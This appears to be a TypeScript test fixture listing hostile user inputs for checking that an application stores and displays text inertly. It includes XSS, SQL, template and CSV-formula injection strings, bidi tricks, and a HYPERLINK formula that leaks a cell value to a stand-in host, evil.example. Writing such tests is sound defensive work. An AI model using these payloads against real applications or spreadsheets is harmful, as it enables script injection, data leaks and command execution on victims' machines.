// Hostile text that users may type into narratives, names and evidence: each entry must be
// stored as typed (or refused with a clear error) and shown back as inert text.
export type HostilePayload = {
  name: string;
  text: string;
  /** refused by textField (control characters) */
  refused?: boolean;
  /** The text a Markdown narrative shows for it, where Markdown changes it (links, images, emphasis). */
  markdown?: string;
};

const MEGABYTE = 1024 * 1024;

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { name: "script tag", text: `<script>alert("xss-script")</script>` },
  { name: "image onerror", text: `<img src=x onerror="alert('xss-img')">` },
  { name: "svg onload", text: `<svg onload=alert("xss-svg")></svg>` },
  { name: "iframe srcdoc", text: `<iframe srcdoc="<script>alert('xss-iframe')</script>"></iframe>` },
  { name: "attribute break-out", text: `" autofocus onfocus="alert('xss-attr')` },
  { name: "javascript: URL", text: "javascript:alert('xss-js-url')" },
  { name: "markdown javascript: link", text: "[click me](javascript:alert('xss-md-link'))", markdown: "click me" },
  { name: "data: URL", text: "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==" },
  { name: "markdown data: image", text: "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", markdown: "x" },
  { name: "bidi override (U+202E)", text: "report\u202Efdp.exe" },
  { name: "bidi isolates", text: "\u2067مرسوم\u2069 \u2066decree\u2069" },
  { name: "zero-width characters", text: "zero\u200Bwidth\u200Cjoiner\u200D\uFEFFbom" },
  { name: "emoji", text: "Border posts 🛂🚧 staffed ✅ — 👨‍👩‍👧‍👦 🇶🇦" },
  { name: "mixed Arabic and English", text: "اعتمدت الدولة قانون Cybercrime Law رقم 14 لسنة 2014 (الجرائم الإلكترونية)." },
  { name: "CSV formula (=)", text: `=HYPERLINK("http://evil.example/?leak="&A1,"click")` },
  { name: "CSV formula (+)", text: "+cmd|' /C calc'!A0" },
  { name: "CSV formula (-)", text: "-2+3+cmd|' /C calc'!A0" },
  { name: "CSV formula (@)", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "SQL-looking", text: "'; DROP TABLE reports; --" },
  {
    name: "template-looking",
    text: "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
    markdown: "{{constructor.constructor('alert(1)')()}} ${77} #{77}",
  },
  { name: "NUL character", text: "before\u0000after", refused: true },
  { name: "other control character", text: "bell\u0007ring", refused: true },
];

/** A string of about `bytes` UTF-8 bytes, Arabic and ASCII mixed. */
export function hugeText(bytes = MEGABYTE): string {
  const unit = "تنفيذ implementation ";
  return unit.repeat(Math.ceil(bytes / Buffer.byteLength(unit))).slice(0, bytes);
}
